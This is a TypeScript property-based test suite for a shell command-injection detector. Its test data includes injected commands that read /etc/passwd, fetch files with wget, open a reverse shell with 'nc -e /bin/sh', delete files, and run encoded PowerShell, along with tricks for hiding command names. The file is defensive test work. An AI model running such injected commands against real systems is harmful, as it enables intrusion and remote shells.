// What the command detector stops and what it lets pass: rows of attacks and of ordinary values, and what must hold for all.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { detectShell, mayBeShell } from './shell.ts';
import { shellFindings } from './shell-findings.ts';

/** The rows of a file beside this one; ␤ and ␍ stand for the ends of lines. */
function rows(name: string): string[] {
  const text = readFileSync(new URL(name, import.meta.url), 'utf8');
  return text
    .split('\n')
    .filter((row) => row !== '')
    .map((row) => row.replaceAll('␤', '\n').replaceAll('␍', '\r'));
}

const groups = new Map<string, string[]>();
for (const row of rows('./shell-attacks.txt')) {
  if (row.startsWith('== ')) groups.set(row.slice(3), []);
  else [...groups.values()].at(-1)!.push(row);
}
const attacks = [...groups.values()].flat();
const ordinary = rows('./sql-ordinary.txt');
const score = (value: string): number => detectShell(value)?.score ?? 0;

describe('command injection is recognised', () => {
  it('in at least 300 rows', () => assert.ok(attacks.length >= 300, `${attacks.length} rows`));

  for (const [what, values] of groups) {
    it(`as ${what} in ${values.length} rows`, () => {
      for (const value of values) {
        const found = detectShell(value);
        assert.ok(found !== null && found.score >= 5, `missed: ${value}`);
        assert.equal(found.id, shellFindings[what as keyof typeof shellFindings].id, value);
        assert.ok(found.start >= 0 && found.start <= found.end && found.end <= value.length, `place in: ${value}`);
      }
    });
  }

  it('with its place and its sentence', () => {
    assert.deepEqual(detectShell('127.0.0.1; cat /etc/passwd'), {
      id: 1032100,
      score: 5,
      severity: 'CRITICAL',
      says: 'command injection: the value ends the command and starts another one',
      start: 9,
      end: 14,
    });
  });
});

describe('ordinary values pass', () => {
  it('in at least 700 rows', () => assert.ok(ordinary.length >= 700, `${ordinary.length} rows`));

  for (const value of ordinary) {
    const found = detectShell(value);
    if (found !== null && found.score >= 5) it(value, () => assert.fail(`${found.id} ${found.says}: ${value}`));
  }

  it('with no finding at all where nothing of a shell is in them', () => {
    const values = [
      '',
      '42',
      'blue shoes',
      "O'Brien",
      'Tom & Jerry',
      'cats; dogs | birds',
      'en-US,en;q=0.5',
      'a && b',
      '$(5)?',
    ];
    for (const value of values) assert.equal(detectShell(value), null, value);
  });

  it('and talk about commands in backquotes does not block, a backquoted command alone does', () => {
    assert.ok(score('you can use `ls -la` for that') < 5);
    assert.ok(score('`cat /etc/hosts` shows the names') < 5);
    assert.equal(score('`ls -la`'), 5);
    assert.equal(score('127.0.0.1`id`'), 5);
  });

  it('and names of commands without arguments do not block among words', () => {
    const names = [
      'cat',
      'find',
      'sort',
      'cut',
      'more',
      'less',
      'top',
      'man',
      'date',
      'time',
      'kill',
      'make',
      'test',
      'host',
      'file',
      'who',
    ];
    for (const name of names)
      for (const separator of ['; ', ' | ', ' & ', ' || ', ' && ', '\n'])
        for (const value of [
          `tea${separator}${name}`,
          `two cups${separator}${name} pictures`,
          `this one${separator}${name} it${separator}then go`,
        ])
          assert.ok(score(value) < 5, value);
  });
});

describe('what holds for every value', () => {
  const separators = fc.constantFrom(
    ';',
    '|',
    '||',
    '&&',
    '&',
    '; ',
    ' | ',
    ' && ',
    '\n',
    ';\t',
    '$(',
    "';",
    '";',
    '|\v',
  );
  const commands = fc.constantFrom(
    'cat /etc/passwd',
    'ls -la /',
    'wget http://x.test/a',
    'nc -e /bin/sh 10.0.0.1 99',
    'rm -rf /tmp/x',
    'bash -c id',
  );
  const prefixes = fc.constantFrom('', '1', '127.0.0.1', 'a.png', 'x@y.test');

  it('a command is found behind every separator', () => {
    fc.assert(
      fc.property(
        prefixes,
        separators,
        commands,
        fc.constantFrom('', ';', ' #', "'", '"', '&', ' | x'),
        (prefix, separator, command, end) => {
          assert.ok(score(prefix + separator + command + end) >= 5, prefix + separator + command + end);
          assert.ok(score(`${prefix}\`${command}\``) >= 5, `backquoted ${command} behind ${prefix}`);
        },
      ),
      { numRuns: 3000 },
    );
  });

  it('a command is found however its name is hidden', () => {
    const tricks = fc.constantFrom("''", '""', '\\', '$@', '$*', '$9', '^');
    fc.assert(
      fc.property(
        prefixes,
        separators,
        fc.constantFrom('cat', 'whoami', 'wget', 'bash', 'id', 'uname'),
        fc.nat(9),
        tricks,
        (prefix, separator, name, where, trick) => {
          const at = 1 + (where % (name.length - 1));
          const value = `${prefix}${separator}${name.slice(0, at)}${trick}${name.slice(at)}`;
          assert.ok(score(value) >= 5, value);
        },
      ),
      { numRuns: 3000 },
    );
  });

  it('a Windows command is found in every spelling', () => {
    const values = fc.constantFrom(
      '& ping -n 9 127.0.0.1',
      '& net user',
      '|dir c:\\',
      '& whoami /all',
      '& powershell -enc aQBkAA==',
      '& cmd /c dir',
    );
    fc.assert(
      fc.property(values, fc.infiniteStream(fc.boolean()), (value, flips) => {
        const spelt = [...value].map((letter) => (flips.next().value ? letter.toUpperCase() : letter)).join('');
        assert.ok(score(spelt) >= 5, spelt);
      }),
      { numRuns: 1000 },
    );
  });

  const pieces = attacks.flatMap((value) => value.split(/(?<=[^a-z0-9])|(?=[^a-z0-9])/i));

  it('nothing is thrown, and what the cheap pass rules out is never found', () => {
    const joined = fc.array(fc.constantFrom(...pieces), { maxLength: 30 }).map((all) => all.join(''));
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary', maxLength: 60 }), joined), (value) => {
        const found = detectShell(value);
        if (!mayBeShell(value)) assert.equal(found, null);
        if (found !== null) assert.ok(found.start <= found.end && found.end <= value.length, value);
      }),
      { numRuns: 5000 },
    );
  });

  it('the work grows no faster than the value', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 5 }), (unit) => {
        const value = unit.join('');
        const short = stepsOf(value.repeat(Math.ceil(2000 / value.length)));
        const long = stepsOf(value.repeat(Math.ceil(16000 / value.length)));
        // Eight times the value may cost eight times the work, and a little for what is looked at once.
        assert.ok(long < 16 * short + 20_000, `${short} then ${long} steps for ${value}`);
      }),
      { numRuns: 150 },
    );
  });
});

/** How many characters are looked at, searched and cut out while `value` is judged. */
function stepsOf(value: string): number {
  const { charCodeAt, indexOf, slice, includes } = String.prototype;
  let steps = 0;
  String.prototype.charCodeAt = function (at) {
    steps++;
    return charCodeAt.call(this, at);
  };
  String.prototype.indexOf = function (mark, from = 0) {
    const found = indexOf.call(this, mark, from);
    steps += (found < 0 ? this.length : found) - from;
    return found;
  };
  String.prototype.includes = function (mark, from = 0) {
    steps += this.length;
    return includes.call(this, mark, from);
  };
  String.prototype.slice = function (from, to) {
    const cut = slice.call(this, from, to);
    steps += cut.length;
    return cut;
  };
  try {
    detectShell(value);
    return steps;
  } finally {
    Object.assign(String.prototype, { charCodeAt, indexOf, slice, includes });
  }
}
